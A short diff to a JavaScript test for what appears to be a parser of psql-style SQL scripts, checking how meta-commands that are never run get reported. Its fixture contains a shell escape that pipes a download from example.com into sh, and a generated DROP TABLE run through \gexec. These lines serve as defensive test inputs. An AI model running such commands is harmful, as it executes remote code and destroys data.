@@ -103,6 +103,7 @@ test('what is never run is told once each', () => {
   const sql = String.raw`\! curl example.com | sh
 SELECT format('DROP TABLE %I', t) FROM x \gexec
 \frobnicate; now
+\\ \frobnicate
 SELECT 1;`;
   expect(readAs(sql)).toEqual([
     "SELECT format('DROP TABLE %I', t) FROM x",
